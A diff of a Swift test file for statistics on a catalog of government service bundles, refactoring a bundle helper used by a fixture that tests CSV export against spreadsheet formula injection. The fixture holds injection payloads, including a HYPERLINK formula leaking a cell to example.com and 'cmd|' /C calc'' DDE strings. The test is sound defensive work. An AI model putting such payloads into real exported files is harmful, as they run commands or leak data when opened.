@@ -142,16 +142,21 @@ import Testing
         try expectGolden(stats.csv(), file: golden("stats.csv"))
     }
 
-    @Test func bundlesReportWhatTheySave() {
+    /// The catalog with one 并联 bundle of two members that take 7 working days one by one.
+    static func withBundle(code: String, name: String, promised: Int, materialsBefore: Int, after: Int) -> Catalog {
         var catalog = CatalogStatsTests.catalog
-        var bundle = ServiceBundle(code: "440100-YJS-001", name: "一件事", mode: .parallel,
+        var bundle = ServiceBundle(code: code, name: name, mode: .parallel,
             stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: .comprehensive,
-            promised: .workingDays(5))
-        // Members promising 3 and 4 working days, 5 and 4 materials, 2 of them the same.
+            promised: .workingDays(promised))
         bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
-                                       materialsBeforeMerge: 9, materialsAfterMerge: 7)
+                                       materialsBeforeMerge: materialsBefore, materialsAfterMerge: after)
         catalog.bundles = [bundle]
-        let stats = CatalogStats.compute(catalog)
+        return catalog
+    }
+
+    @Test func bundlesReportWhatTheySave() {
+        // Members promising 3 and 4 working days, 5 and 4 materials, 2 of them the same.
+        let stats = CatalogStats.compute(Self.withBundle(code: "440100-YJS-001", name: "一件事", promised: 5, materialsBefore: 9, after: 7))
         #expect(stats.bundles.first?.saved == .workingDays(2))
         #expect(stats.text().hasSuffix("""
 
@@ -180,19 +185,13 @@ import Testing
 
     /// A catalog whose text a spreadsheet would run as formulas (OWASP, CSV injection).
     static let hostile: Catalog = {
-        var catalog = CatalogStatsTests.catalog
+        var catalog = withBundle(code: "=1+1", name: "一件事,\"引号\"", promised: 9, materialsBefore: 3, after: 3)
         catalog.name = "=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")"
         catalog.items[1].name = "+1+cmd|' /C calc'!A0"     // B, over the line
         catalog.items[6].name = "-2+3"                      // G, over the line
         catalog.items[0].type = "@SUM(1+1)*cmd|' /C calc'!A0"
         catalog.items[3].type = "\t=1+1"
         catalog.items[4].type = "\r=1+1"
-        var bundle = ServiceBundle(code: "=1+1", name: "一件事,\"引号\"", mode: .parallel,
-            stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: .comprehensive,
-            promised: .workingDays(9))
-        bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
-                                       materialsBeforeMerge: 3, materialsAfterMerge: 3)
-        catalog.bundles = [bundle]
         return catalog
     }()
 
